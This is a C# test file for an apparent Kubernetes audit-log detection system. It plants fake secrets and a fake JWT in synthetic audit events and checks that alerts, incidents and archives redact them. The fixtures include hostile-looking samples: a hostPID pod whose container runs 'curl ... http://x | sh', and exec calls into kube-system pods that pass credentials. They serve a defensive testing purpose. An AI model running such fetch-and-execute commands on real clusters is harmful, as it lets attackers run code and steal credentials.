using System.IO.Compression;
using System.Text;
using System.Text.Json;
using Crowsnest.Core.Alerting;
using Crowsnest.Core.Archiving;
using Crowsnest.Core.Audit;
using Crowsnest.Core.Detections;
using Crowsnest.Core.Incidents;
using Crowsnest.Core.Intake;
using Crowsnest.Core.Judging;
using Crowsnest.Core.Output;
using Crowsnest.Core.Rules;
using Crowsnest.Core.Scoring;
using Crowsnest.Testing;

namespace Crowsnest.Core.Tests.Judging;

/// <summary>Secrets planted wherever one can stand, and looked for in everything that leaves intake.</summary>
public sealed class RedactionTests
{
    private const string Secret = "s3cr3tPl4nted";
    private const string Jwt = "eyJhbGciOiJSUzI1NiIsImtpZCI6IngifQ.eyJzdWIiOiJwbGFudGVkIn0.c2lnbmF0dXJlLXBsYW50ZWQ";

    private static readonly EventJson[] Planted =
    [
        new()
        {
            Resource = "secrets",
            RequestObject =
                $$$"""{"type":"kubernetes.io/service-account-token","data":{"token":"{{{Secret}}}"},"stringData":{"p":"{{{Secret}}}"}}""",
        },
        new() { Resource = "serviceaccounts", Subresource = "token", RequestObject = $$$"""{"status":{"token":"{{{Jwt}}}"}}""" },
        new() { Resource = "tokenreviews", Namespace = "", RequestObject = $$$"""{"spec":{"token":"{{{Secret}}}"}}""" },
        new()
        {
            Verb = "create",
            Subresource = "exec",
            Code = 101,
            RequestUri = "/api/v1/namespaces/kube-system/pods/x/exec?command=curl&command=-H"
                + $"&command=Authorization%3A+Bearer+{Jwt}",
            Namespace = "kube-system",
        },
        new()
        {
            Verb = "get",
            Subresource = "exec",
            Code = 101,
            RequestUri = $"/api/v1/namespaces/kube-system/pods/x/exec?command=mysql&command=--password%3D{Secret}",
            Namespace = "kube-system",
        },
        new() { Resource = "", Verb = "get", RequestUri = $"/api/v1/x?token={Secret}&x=1", User = "system:anonymous", Code = 200 },
        new()
        {
            Resource = "secrets",
            Verb = "list",
            Namespace = "",
            Name = "",
            RequestUri = "/api/v1/secrets",
            UserAgent = $"tool/1 Authorization: Bearer {Jwt}",
            Code = 200,
        },
        new()
        {
            Resource = "pods",
            Name = "x",
            RequestObject =
                $$$"""{"spec":{"hostPID":true,"containers":[{"image":"alpine","command":["sh","-c","curl -u a:b """
                + $$$"""-H 'Authorization: Bearer {{{Jwt}}}' http://x | sh"],"env":"""
                + $$$"""[{"name":"DB_PASSWORD","value":"a\"{{{Secret}}}"}]}]}}""",
        },
        new() { Resource = "configmaps", RequestObject = $$$"""{"data":{"a":"password={{{Secret}}}","api_key":"{{{Secret}}}"}}""" },
        new()
        {
            Resource = "clusterrolebindings",
            Namespace = "",
            UserAgent = $"tool/1 token={Secret}",
            RequestObject = $$$"""{"roleRef":{"name":"cluster-admin"},"subjects":[{"name":"password={{{Secret}}}"}]}""",
        },
    ];

    [Fact]
    public void Judge_PlantedSecrets_AreInNothingThatLeavesIntake()
    {
        RuleSet rules = RuleSet.Load(RepositoryFiles.RuleFiles);
        AnomalyModel model = ModelFile.Read(File.ReadAllBytes(RepositoryFiles.Model));
        AuditPipeline pipeline = new(new MessageReader(new AuditEventParser(), "default"), new Judge(rules, model, 1_000));
        using IntakeBatch batch = pipeline.Read([Message()]);
        ArchivedBatch archived = AuditPipeline.Archive(batch, new BatchPosition("0", 1, 1, default), redact: false);

        List<Detection> detections = pipeline.Judge(batch, archived.Evidence, new HashSet<RequestKey>());

        Assert.True(detections.Count >= Planted.Length, $"{detections.Count} detections");
        foreach (Detection detection in detections)
        {
            string line = JsonSerializer.Serialize(detection, OutputJson.Lines.Detection);
            Assert.DoesNotContain(Secret, line, StringComparison.Ordinal);
            Assert.DoesNotContain(Jwt[..20], line, StringComparison.Ordinal);
        }

        foreach (Incident incident in IncidentBuilder.Group(detections))
        {
            AlertMail mail = AlertMail.Of(AlertContent.Of(incident, 1, rules, links: null));
            string output = JsonSerializer.Serialize(incident, OutputJson.Lines.Incident) + mail.Subject + mail.Text + mail.Html;
            Assert.DoesNotContain(Secret, output, StringComparison.Ordinal);
            Assert.DoesNotContain(Jwt[..20], output, StringComparison.Ordinal);
        }
    }

    // AKS cuts a record's log at 16 KiB, and other systems whole records.
    [Theory]
    [InlineData(true, 1)]
    [InlineData(true, 40)]
    [InlineData(false, 1)]
    [InlineData(false, 40)]
    public void Redact_RecordThatWasCutInABody_HasNoSecretsAndIsReadTheSame(bool isAks, int off)
    {
        string body = $$$"""{"kind":"Secret","data":{"db.conf":"{{{Secret}}}","other":"{{{new string('x', 200)}}}"}}""";
        string json = new EventJson { Resource = "secrets", AuditId = "cut", RequestObject = body }.ToString();
        string cut = json[..(json.IndexOf(new string('x', 200), StringComparison.Ordinal) + 200 - off)];
        byte[] line = Encoding.UTF8.GetBytes(isAks ? EventJson.AksRecord(cut) : cut);
        using IntakeBatch batch = new();
        new MessageReader(new AuditEventParser(), "default").Read(new HubMessage(line, 1, default), batch);
        Assert.Equal(IntakeOutcome.Salvaged, Assert.Single(batch.Records).Outcome);

        byte[] content = AuditPipeline.Archive(batch, new BatchPosition("0", 1, 1, default), redact: true).Blobs.Single().Content;
        using StreamReader reader = new(new GZipStream(new MemoryStream(content), CompressionMode.Decompress));
        string archived = reader.ReadToEnd();

        Assert.DoesNotContain(Secret, archived, StringComparison.Ordinal);
        Assert.DoesNotContain(Secret, EvidenceText.Of(line).Text, StringComparison.Ordinal);
        using IntakeBatch again = new();
        new MessageReader(new AuditEventParser(), "default").Read(new HubMessage(Encoding.UTF8.GetBytes(archived), 1, default), again);
        IntakeRecord read = Assert.Single(again.Records);
        Assert.Equal(IntakeOutcome.Salvaged, read.Outcome);
        Assert.Equal(
            ("cut", batch.Records[0].Event!.ObjectRef, batch.Records[0].Cluster),
            (read.Event!.AuditId, read.Event.ObjectRef, read.Cluster));
    }

    [Fact]
    public void Archive_SecretDeliveredTwice_IsRedactedTwiceAndReadTheSame()
    {
        string record = (Planted[0] with { AuditId = "twice" }).ToAksRecord();
        string odd = (Planted[0] with { AuditId = "odd", UserAgent = "HALF" }).ToAksRecord()
            .Replace("HALF", """\\ud800""", StringComparison.Ordinal);
        using IntakeBatch batch = new();
        string twice = $$"""{"records":[{{record}},{{record}},{{odd}},{{odd}}]}""";
        new MessageReader(new AuditEventParser(), "default").Read(new HubMessage(Encoding.UTF8.GetBytes(twice), 1, default), batch);

        ArchiveBlob blob = AuditPipeline.Archive(batch, new BatchPosition("0", 1, 1, default), redact: true).Blobs.Single();

        using StreamReader reader = new(new GZipStream(new MemoryStream(blob.Content), CompressionMode.Decompress));
        string text = reader.ReadToEnd();
        Assert.DoesNotContain(Secret, text, StringComparison.Ordinal);
        using IntakeBatch again = new();
        new MessageReader(new AuditEventParser(), "default").Read(new HubMessage(Encoding.UTF8.GetBytes(text), 1, default), again);
        Assert.Equal(
            batch.Records.Select(static r => (r.Outcome, r.Event?.AuditId)),
            again.Records.Select(static r => (r.Outcome, r.Event?.AuditId)));
        Assert.Contains(batch.Records, static r => r.Outcome == IntakeOutcome.Duplicate);
    }

    [Fact]
    public void Redact_BareEventWithALogInItsBody_IsNotTakenForAnEnvelope()
    {
        EventJson json = new()
        {
            Resource = "secrets",
            AuditId = "bare",
            RequestObject = $$$"""{"stringData":{"a":"{{{Secret}}}","log":"x"}}""",
        };

        string text = EvidenceText.Of(Encoding.UTF8.GetBytes(json.ToString())).Text;

        Assert.DoesNotContain(Secret, text, StringComparison.Ordinal);
        Assert.Equal("redacted", JsonDocument.Parse(text).RootElement.GetProperty("requestObject").GetString());
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void Archive_PlantedSecrets_StayOnlyWhereItIsVerbatim(bool redact)
    {
        using IntakeBatch batch = new();
        new MessageReader(new AuditEventParser(), "default").Read(Message(), batch);

        ArchiveBlob blob = AuditPipeline.Archive(batch, new BatchPosition("0", 1, 1, default), redact).Blobs.Single();

        using StreamReader reader = new(new GZipStream(new MemoryStream(blob.Content), CompressionMode.Decompress));
        string text = reader.ReadToEnd();
        Assert.Equal(!redact, text.Contains(Secret, StringComparison.Ordinal));
        Assert.Equal(!redact, text.Contains(Jwt, StringComparison.Ordinal));
        using IntakeBatch again = new();
        new MessageReader(new AuditEventParser(), "default").Read(new HubMessage(Encoding.UTF8.GetBytes(text), 1, default), again);
        Assert.Equal(batch.Counts, again.Counts);
        Assert.Equal(batch.Records.Select(static r => r.Event!.ObjectRef), again.Records.Select(static r => r.Event!.ObjectRef));
    }

    [Fact]
    public void Show_PlantedSecrets_AreNotInTheText()
    {
        foreach (EventJson planted in Planted)
        {
            string text = EvidenceText.Of(Encoding.UTF8.GetBytes((planted with { AuditId = "shown" }).ToAksRecord())).Text;

            Assert.Contains("\"auditID\": \"shown\"", text, StringComparison.Ordinal);
            Assert.DoesNotContain(Secret, text, StringComparison.Ordinal);
            Assert.DoesNotContain(Jwt, text, StringComparison.Ordinal);
        }
    }

    private static HubMessage Message()
    {
        IEnumerable<string> records = Planted.Select(static (json, i) => (json with { AuditId = $"planted-{i}" }).ToAksRecord());
        return new(Encoding.UTF8.GetBytes($$"""{"records":[{{string.Join(',', records)}}]}"""), 1, default);
    }
}
